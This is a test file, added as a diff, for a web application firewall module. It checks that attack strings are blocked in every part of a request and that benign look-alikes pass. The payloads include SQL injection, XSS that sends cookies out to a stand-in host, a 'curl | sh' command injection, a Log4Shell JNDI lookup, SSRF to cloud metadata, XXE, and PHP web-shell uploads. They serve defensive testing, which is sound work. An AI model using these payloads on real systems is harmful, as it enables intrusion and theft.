@@ -1,0 +1,431 @@
+import {
+  type EdgeDomainModules,
+  type EdgeWafModule,
+  WAF_BODY_LIMIT_BYTES,
+  WAF_GROUP_RULE_BASE,
+  WAF_GROUPS,
+  type WafGroup,
+  wafRuleGroup,
+} from '@rampart/contract';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { document, domain, upstream } from './helpers/documents.js';
+import { type Edge, startEdge } from './helpers/edge.js';
+import { type Origin, servedBy, startOrigin } from './helpers/origins.js';
+import { sendFrom } from './helpers/send.js';
+
+// The WAF (rampart.waf, issue 20) through a real nginx: every attack family blocked in each place
+// it can hide (query, urlencoded form, JSON, multipart, cookie, header, path) with a benign twin
+// that passes; groups turned off; exclusions scoped by rule or group, part, name and path; detect
+// mode logging without blocking; the decision and its part and excerpt in the access log; a
+// pathological body within the budget; a body over the inspected limit following the fail mode.
+// The payloads are written for these tests (no corpus line).
+
+const ALL = [...WAF_GROUPS];
+const DOLLAR = '$';
+const waf = (id: number, extra: Partial<EdgeWafModule> = {}): EdgeWafModule => ({
+  id,
+  type: 'waf',
+  siteId: 1,
+  mode: 'block',
+  groups: ALL,
+  sensitivity: 'medium',
+  failMode: 'open',
+  exclusions: [],
+  ...extra,
+});
+
+const MODULES: EdgeWafModule[] = [
+  waf(1),
+  waf(2, { mode: 'detect' }),
+  waf(3, { groups: ALL.filter((g) => g !== 'sqli' && g !== 'rce') }),
+  waf(4, {
+    exclusions: [
+      // the whole sqli group, for the query argument "q", on /search only
+      { ruleId: null, group: 'sqli', part: 'query', name: 'q', path: '/search' },
+      // one rule (a script-capable tag) for the form field "html", everywhere
+      { ruleId: WAF_GROUP_RULE_BASE.xss + 1, group: null, part: 'body', name: 'html', path: '' },
+      // a header, named in another case
+      { ruleId: null, group: 'rce', part: 'header', name: 'X-Build-Cmd', path: '' },
+    ],
+  }),
+  waf(5, { failMode: 'closed' }),
+];
+
+const refs = (id: number): EdgeDomainModules => ({
+  customHeader: null,
+  urlRedirect: null,
+  cors: null,
+  proxyRewrite: null,
+  luaAcl: null,
+  tokenAuth: null,
+  waf: id,
+});
+const HOSTS = ['block', 'detect', 'groups', 'excluded', 'closed'];
+const host = (name: string) => `${name}.waf.example`;
+
+let edge: Edge;
+let origin: Origin;
+
+type Place = 'query' | 'form' | 'json' | 'multipart' | 'cookie' | 'header' | 'path';
+const PLACES: Place[] = ['query', 'form', 'json', 'multipart', 'cookie', 'header', 'path'];
+const BOUNDARY = 'rampartWafBoundary42';
+
+interface Reply {
+  status: number | 'closed';
+  origin: boolean;
+}
+
+/** One value sent in one place, on a new connection. */
+async function sendIn(place: Place, value: string, name = 'v', to = 'block', urlPath = '/app'): Promise<Reply> {
+  const headers: Record<string, string> = {};
+  let path = `${urlPath}?page=1`;
+  let body: string | undefined;
+  let method = 'GET';
+  switch (place) {
+    case 'query':
+      path = `${urlPath}?${name}=${encodeURIComponent(value)}`;
+      break;
+    case 'form':
+      method = 'POST';
+      headers['content-type'] = 'application/x-www-form-urlencoded';
+      body = `a=1&${name}=${encodeURIComponent(value)}`;
+      break;
+    case 'json':
+      method = 'POST';
+      headers['content-type'] = 'application/json';
+      body = JSON.stringify({ user: { id: 7, prefs: [{ [name]: value }] } });
+      break;
+    case 'multipart':
+      method = 'POST';
+      headers['content-type'] = `multipart/form-data; boundary=${BOUNDARY}`;
+      body = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--${BOUNDARY}--\r\n`;
+      break;
+    case 'cookie':
+      headers.cookie = `session=abc123; ${name}=${encodeURIComponent(value)}`;
+      break;
+    case 'header':
+      headers[`x-${name}`] = value;
+      break;
+    case 'path':
+      path = `${urlPath}/${encodeURIComponent(value)}`;
+      break;
+  }
+  if (body !== undefined) headers['content-length'] = String(Buffer.byteLength(body));
+  const reply = await sendFrom('127.0.0.1', edge.httpPort, host(to), { path, method, headers, body });
+  if (reply === 'closed') return { status: 'closed', origin: false };
+  return { status: reply.status, origin: servedBy(reply.body) === 'origin' };
+}
+
+interface LogLine {
+  uri: string;
+  status: string;
+  fw_kind: string;
+  fw_rule: string;
+  fw_action: string;
+  waf_part: string;
+  waf_excerpt: string;
+}
+
+/** The access-log line of the request whose URI contains `marker` (polled: the log flushes every second). */
+async function logLine(marker: string): Promise<LogLine | undefined> {
+  for (let i = 0; i < 40; i++) {
+    const lines = (await edge.accessLog())
+      .split('\n')
+      .filter((l) => l.trim() !== '')
+      .map((l) => JSON.parse(l) as LogLine)
+      .filter((l) => l.uri.includes(marker));
+    if (lines.length > 0) return lines[lines.length - 1];
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  return undefined;
+}
+
+beforeAll(async () => {
+  origin = await startOrigin('origin');
+  edge = await startEdge();
+  await edge.push(
+    document(
+      'waf-1',
+      HOSTS.map((name, i) => domain(i + 1, host(name), [upstream(origin.port)], { modules: refs(i + 1) })),
+      [],
+      [],
+      { modules: MODULES },
+    ),
+  );
+});
+
+afterAll(async () => {
+  await edge?.stop();
+  await origin?.close();
+});
+
+/** Each family: an attack, the group whose range its rule must be in, and a benign twin. */
+const FAMILIES: { family: string; group: WafGroup; attack: string; benign: string; places?: Place[] }[] = [
+  { family: 'SQL injection (tautology)', group: 'sqli', attack: "nobody' OR 'x'='x", benign: "O'Reilly and sons" },
+  {
+    family: 'SQL injection (UNION)',
+    group: 'sqli',
+    attack: '0 UNION ALL SELECT name, pass FROM users',
+    benign: 'the union of two sets, select one',
+  },
+  {
+    family: 'SQL injection (time)',
+    group: 'sqli',
+    attack: '7 AND SLEEP(9)',
+    benign: 'I need 7 hours of sleep (at least)',
+  },
+  { family: 'XSS (tag)', group: 'xss', attack: '<svg/onload=top.alert(7)>', benign: 'h1<h2 and 3 > 2' },
+  {
+    family: 'XSS (script URL)',
+    group: 'xss',
+    attack: 'javascript:fetch(`//x.example/`+document.cookie)',
+    benign: 'JavaScript: the good parts',
+  },
+  {
+    family: 'command injection',
+    group: 'rce',
+    attack: 'a.png; curl -s http://198.51.100.7/x | sh',
+    benign: 'cats & dogs; a curl of hair',
+  },
+  {
+    family: 'path traversal',
+    group: 'traversal',
+    attack: '../../../../etc/shadow',
+    benign: 'chapter 1.2.3',
+    places: ['query', 'form', 'json', 'multipart', 'cookie', 'header'],
+  },
+  {
+    family: 'PHP injection',
+    group: 'php',
+    attack: '<?php echo shell_exec($_GET["c"]); ?>',
+    benign: 'price: $5 (php course)',
+  },
+  {
+    family: 'Log4Shell',
+    group: 'java',
+    // "$" and "{" joined at run time: a lookup, not a template literal
+    attack: `${DOLLAR}{${DOLLAR}{lower:j}ndi:ldap://198.51.100.7/a}`,
+    benign: `costs ${DOLLAR}{price} each`,
+  },
+  {
+    family: 'template injection',
+    group: 'ssti',
+    attack: "{{ self.__init__.__globals__['os'] }}",
+    benign: '{{ name }} said hello',
+  },
+  {
+    family: 'SSRF',
+    group: 'ssrf',
+    attack: 'http://169.254.169.254/latest/meta-data/',
+    benign: 'https://www.example.com/a?b=c',
+    places: ['query', 'form', 'json', 'multipart', 'cookie'],
+  },
+];
+
+describe('WAF: each attack family blocked wherever it hides, its benign twin passing', () => {
+  for (const f of FAMILIES) {
+    for (const place of f.places ?? PLACES) {
+      it(`${f.family} in the ${place}: 403 from the edge, the origin never reached; the twin reaches the origin`, async () => {
+        const blocked = await sendIn(place, f.attack);
+        expect(blocked).toEqual({ status: 403, origin: false });
+        const passed = await sendIn(place, f.benign);
+        expect(passed).toEqual({ status: 200, origin: true });
+      });
+    }
+  }
+
+  it('XXE: an XML body declaring an external entity is blocked; plain XML passes', async () => {
+    const xml = (doctype: string) => `<?xml version="1.0"?>${doctype}<order><item sku="a-1">2</item></order>`;
+    const send = (body: string) =>
+      sendFrom('127.0.0.1', edge.httpPort, host('block'), {
+        path: '/orders',
+        method: 'POST',
+        headers: { 'content-type': 'application/xml', 'content-length': String(Buffer.byteLength(body)) },
+        body,
+      });
+    const bad = await send(xml('<!DOCTYPE order [<!ENTITY e SYSTEM "file:///etc/hostname">]>'));
+    expect(bad !== 'closed' && bad.status).toBe(403);
+    const good = await send(xml(''));
+    expect(good !== 'closed' && servedBy(good.body)).toBe('origin');
+  });
+
+  it('web shells: an upload named .php or holding PHP code is blocked; an image upload passes', async () => {
+    const upload = (filename: string, content: string) => {
+      const body = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${BOUNDARY}--\r\n`;
+      return sendFrom('127.0.0.1', edge.httpPort, host('block'), {
+        path: '/upload',
+        method: 'POST',
+        headers: {
+          'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
+          'content-length': String(Buffer.byteLength(body)),
+        },
+        body,
+      });
+    };
+    const named = await upload('avatar.php', 'GIF89a');
+    expect(named !== 'closed' && named.status).toBe(403);
+    const code = await upload('avatar.gif', 'GIF89a<?php eval($_POST[1]);');
+    expect(code !== 'closed' && code.status).toBe(403);
+    const fine = await upload('avatar.gif', 'GIF89a\u0001\u0002 an image');
+    expect(fine !== 'closed' && servedBy(fine.body)).toBe('origin');
+  });
+
+  it('sensitive files and scanners: /.git/config and a scanner user agent are blocked; /assets/app.js passes', async () => {
+    const get = (path: string, ua = 'Mozilla/5.0') =>
+      sendFrom('127.0.0.1', edge.httpPort, host('block'), { path, headers: { 'user-agent': ua } });
+    for (const reply of [
+      await get('/.git/config'),
+      await get('/.env'),
+      await get('/', 'sqlmap/1.7 (https://sqlmap.org)'),
+    ]) {
+      expect(reply !== 'closed' && reply.status).toBe(403);
+    }
+    const fine = await get('/assets/app.js');
+    expect(fine !== 'closed' && servedBy(fine.body)).toBe('origin');
+  });
+
+  it('real traffic shapes pass: a JSON beacon, a big cookie, a bearer token, a search with punctuation', async () => {
+    const beacon = await sendIn('json', 'https://shop.example/cart?step=2&coupon=SPRING-24 (mobile)');
+    expect(beacon).toEqual({ status: 200, origin: true });
+    const cookie = await sendIn(
+      'cookie',
+      Buffer.from(JSON.stringify({ cart: [1, 2, 3], theme: 'dark' })).toString('base64'),
+    );
+    expect(cookie).toEqual({ status: 200, origin: true });
+    const token = await sendIn('header', `Bearer eyJhbGciOiJIUzI1NiJ9.${'eyJzdWIiOiIxMjM0NTY3ODkwIn0'}.c2lnbmF0dXJl`);
+    expect(token).toEqual({ status: 200, origin: true });
+    const search = await sendIn('query', 'C++ vs. Rust: which is faster? (2024 edition) -- a comparison');
+    expect(search).toEqual({ status: 200, origin: true });
+  });
+});
+
+describe('WAF: groups, exclusions and modes', () => {
+  it('a group turned off is not detected; the groups left on still are', async () => {
+    expect(await sendIn('query', "nobody' OR 'x'='x", 'v', 'groups')).toEqual({ status: 200, origin: true });
+    expect(await sendIn('query', 'a.png; curl -s x.example/x | sh', 'v', 'groups')).toEqual({
+      status: 200,
+      origin: true,
+    });
+    expect(await sendIn('query', '<svg/onload=top.alert(7)>', 'v', 'groups')).toEqual({ status: 403, origin: false });
+  });
+
+  it('a group exclusion applies to its part, name and path only', async () => {
+    const sqli = "nobody' OR 'x'='x";
+    expect(await sendIn('query', sqli, 'q', 'excluded', '/search')).toEqual({ status: 200, origin: true });
+    expect(await sendIn('query', sqli, 'q', 'excluded', '/search/deeper')).toEqual({ status: 200, origin: true });
+    // another path, another name, another part: still blocked
+    expect(await sendIn('query', sqli, 'q', 'excluded', '/login')).toEqual({ status: 403, origin: false });
+    expect(await sendIn('query', sqli, 'id', 'excluded', '/search')).toEqual({ status: 403, origin: false });
+    expect(await sendIn('form', sqli, 'q', 'excluded', '/search')).toEqual({ status: 403, origin: false });
+    // the group only: another group in the same argument is still detected
+    expect(await sendIn('query', '<svg/onload=top.alert(7)>', 'q', 'excluded', '/search')).toEqual({
+      status: 403,
+      origin: false,
+    });
+  });
+
+  it('a rule exclusion skips that rule only; a header exclusion matches the name in any case', async () => {
+    // a script-capable tag in the excluded form field passes, in another field it does not
+    expect(await sendIn('form', '<iframe src="/embed/clip-7"></iframe>', 'html', 'excluded')).toEqual({
+      status: 200,
+      origin: true,
+    });
+    expect(await sendIn('form', '<iframe src="/embed/clip-7"></iframe>', 'body', 'excluded')).toEqual({
+      status: 403,
+      origin: false,
+    });
+    // another XSS rule (an event handler) in the same field is still applied
+    expect(await sendIn('form', '<img src=x onerror=alert(7)>', 'html', 'excluded')).toEqual({
+      status: 403,
+      origin: false,
+    });
+    expect(await sendIn('header', 'make all; /bin/sh -c "id"', 'build-cmd', 'excluded')).toEqual({
+      status: 200,
+      origin: true,
+    });
+    expect(await sendIn('header', 'make all; /bin/sh -c "id"', 'other-cmd', 'excluded')).toEqual({
+      status: 403,
+      origin: false,
+    });
+  });
+
+  it('detect mode lets the attack through and logs kind waf, action detect, the rule, part and excerpt', async () => {
+    const reply = await sendIn('query', '0 UNION ALL SELECT name, pass FROM users', 'detect-marker', 'detect');
+    expect(reply).toEqual({ status: 200, origin: true });
+    const line = await logLine('detect-marker');
+    expect(line).toMatchObject({ status: '200', fw_kind: 'waf', fw_action: 'detect', waf_part: 'query' });
+    expect(wafRuleGroup(Number(line?.fw_rule))).toBe('sqli');
+    expect(line?.waf_excerpt).toContain('UNION ALL SELECT');
+    expect(line?.waf_excerpt.length).toBeLessThanOrEqual(128);
+  });
+
+  it('block mode logs action deny with the rule, the part and a short excerpt without control characters', async () => {
+    await sendIn('query', 'x', 'v', 'block', '/cookie-marker-page');
+    const reply = await sendFrom('127.0.0.1', edge.httpPort, host('block'), {
+      path: '/cookie-marker',
+      headers: { cookie: `pref=${encodeURIComponent(`${'a'.repeat(300)}\r\n<script>alert(7)</script>`)}` },
+    });
+    expect(reply !== 'closed' && reply.status).toBe(403);
+    const line = await logLine('/cookie-marker');
+    expect(line).toMatchObject({ status: '403', fw_kind: 'waf', fw_action: 'deny', waf_part: 'cookie' });
+    expect(wafRuleGroup(Number(line?.fw_rule))).toBe('xss');
+    expect(line?.waf_excerpt).toContain('<script>');
+    expect(line?.waf_excerpt.length).toBeLessThanOrEqual(128);
+    expect(line?.waf_excerpt).not.toMatch(/[\r\n]/);
+  });
+
+  it('a request the WAF passes is logged without a decision', async () => {
+    await sendIn('query', 'plain words', 'clean-marker');
+    const line = await logLine('clean-marker');
+    expect(line).toMatchObject({ fw_kind: '', fw_rule: '', waf_part: '', waf_excerpt: '' });
+  });
+});
+
+describe('WAF: cost bounds and the fail mode', () => {
+  const post = (to: string, body: string, contentType = 'application/x-www-form-urlencoded') =>
+    sendFrom('127.0.0.1', edge.httpPort, host(to), {
+      path: '/bulk',
+      method: 'POST',
+      headers: { 'content-type': contentType, 'content-length': String(Buffer.byteLength(body)) },
+      body,
+    });
+
+  it('a pathological 128 KB body is answered quickly: the budget bounds the inspection', async () => {
+    const unit = `f=${encodeURIComponent('\'(<a/="`;|&${')}&`;
+    const body = unit.repeat(Math.floor((WAF_BODY_LIMIT_BYTES - 1024) / unit.length));
+    const started = performance.now();
+    const reply = await post('block', body);
+    const ms = performance.now() - started;
+    expect(reply).not.toBe('closed');
+    // the edge's whole answer, through the origin, on a shared 2-core machine
+    expect(ms).toBeLessThan(500);
+    // one long value of the same bytes, windowed
+    const single = `v=${encodeURIComponent('\'(<a/="`;|&${ '.repeat(9000))}`;
+    const started2 = performance.now();
+    expect(await post('block', single.slice(0, WAF_BODY_LIMIT_BYTES - 16))).not.toBe('closed');
+    expect(performance.now() - started2).toBeLessThan(500);
+  });
+
+  it('an ordinary body at the limit is inspected and passes; an attack at its end is found', async () => {
+    // 31 text fields of 4 KB (a long form, a pasted document) and a last one
+    const field = `note=${'some+ordinary+text+in+a+long+field+'.repeat(113)}&`;
+    const filler = field.repeat(Math.floor((WAF_BODY_LIMIT_BYTES - 512) / field.length));
+    const ok = await post('block', `${filler}last=1`);
+    expect(ok !== 'closed' && servedBy(ok.body)).toBe('origin');
+    const bad = await post('block', `${filler}last=${encodeURIComponent("1' OR '1'='1")}`);
+    expect(bad !== 'closed' && bad.status).toBe(403);
+  });
+
+  it('a body over WAF_BODY_LIMIT_BYTES: fail closed blocks it (rule 113001), fail open passes it', async () => {
+    const big = `data=${'x'.repeat(WAF_BODY_LIMIT_BYTES + 4096)}`;
+    const closed = await post('closed', big);
+    expect(closed !== 'closed' && closed.status).toBe(403);
+    const open = await post('block', big);
+    expect(open !== 'closed' && servedBy(open.body)).toBe('origin');
+    const line = await logLine('/bulk');
+    expect(line).toBeDefined();
+    const closedLines = (await edge.accessLog()).split('\n').filter((l) => l.includes('"fw_rule":"113001"'));
+    expect(closedLines.length).toBeGreaterThan(0);
+    expect(closedLines[0]).toContain('"waf_part":"body"');
+  });
+});
